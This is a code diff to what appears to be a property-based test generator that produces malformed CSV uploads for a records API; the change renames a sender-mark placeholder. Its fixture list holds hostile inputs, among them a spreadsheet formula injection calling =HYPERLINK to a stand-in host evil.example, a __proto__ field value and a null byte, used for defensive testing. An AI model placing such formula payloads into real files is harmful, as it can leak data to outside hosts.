@@ -9,11 +9,11 @@ import {
   SVG_WITH_SCRIPT,
 } from '../../../api/src/photos/testing/test-photos.ts';
 import { recordEntryKindSchema } from '../../../api/src/record/schema.ts';
-import { SENDER_MARK, weightedChoice } from './placeholders.ts';
+import { SENDER_MARK_PLACEHOLDER, weightedChoice } from './placeholders.ts';
 
 export interface GeneratedFile {
   type: string;
-  /** Content of the file. `SENDER_MARK` in a text is replaced when the file is sent. */
+  /** Content of the file. `SENDER_MARK_PLACEHOLDER` in a text is replaced when the file is sent. */
   content: Uint8Array | string;
 }
 
@@ -30,7 +30,7 @@ const MAX_LINES = 3;
 const HUGE_SIDE = 40_000;
 
 const HEAD = 'date,kind,note';
-const LINE = `2026-01-31,service,${SENDER_MARK}`;
+const LINE = `2026-01-31,service,${SENDER_MARK_PLACEHOLDER}`;
 const ODD_TABLES = [
   '',
   '\n\n',
@@ -40,15 +40,15 @@ const ODD_TABLES = [
   `${HEAD},cheese\n${LINE},brie`,
   `${HEAD}\n${LINE},one,too,many`,
   `${HEAD}\n"${LINE}`,
-  `${HEAD}\n2026-02-30,service,${SENDER_MARK}`,
-  `${HEAD}\n2199-12-31,service,${SENDER_MARK}`,
-  `${HEAD}\n0000-01-01,service,${SENDER_MARK}`,
-  `${HEAD}\n2026-01-31,cheese,${SENDER_MARK}`,
-  `${HEAD}\n2026-01-31,__proto__,${SENDER_MARK}`,
+  `${HEAD}\n2026-02-30,service,${SENDER_MARK_PLACEHOLDER}`,
+  `${HEAD}\n2199-12-31,service,${SENDER_MARK_PLACEHOLDER}`,
+  `${HEAD}\n0000-01-01,service,${SENDER_MARK_PLACEHOLDER}`,
+  `${HEAD}\n2026-01-31,cheese,${SENDER_MARK_PLACEHOLDER}`,
+  `${HEAD}\n2026-01-31,__proto__,${SENDER_MARK_PLACEHOLDER}`,
   `${HEAD}\n${LINE}\0`,
   `${HEAD}\n${LINE}${'x'.repeat(1_000)}`,
-  `${HEAD}\n2026-01-31,service,=HYPERLINK("https://evil.example/${SENDER_MARK}")`,
-  `${HEAD}\n2026-01-31,service,'=1+1${SENDER_MARK}`,
+  `${HEAD}\n2026-01-31,service,=HYPERLINK("https://evil.example/${SENDER_MARK_PLACEHOLDER}")`,
+  `${HEAD}\n2026-01-31,service,'=1+1${SENDER_MARK_PLACEHOLDER}`,
   `\ufeff${HEAD.replaceAll(',', ';')}\r\n${LINE.replaceAll(',', ';')}`,
   `${HEAD},odometer_km,cost,currency\n${LINE},-1,-1,EUR`,
   `${HEAD},odometer_km,odometer_miles\n${LINE},1,1`,
@@ -87,7 +87,7 @@ export async function createFileGenerators(today: Date): Promise<FileGenerators>
           ago: fc.integer({ min: 1, max: MAX_DAYS_AGO }),
           kind: fc.constantFrom(...recordEntryKindSchema.options),
         })
-        .map(({ ago, kind }) => `${dayBefore(today, ago)},${kind},${SENDER_MARK}`),
+        .map(({ ago, kind }) => `${dayBefore(today, ago)},${kind},${SENDER_MARK_PLACEHOLDER}`),
       { minLength: 1, maxLength: MAX_LINES },
     )
     .map((lines) => [HEAD, ...lines].join('\n'));
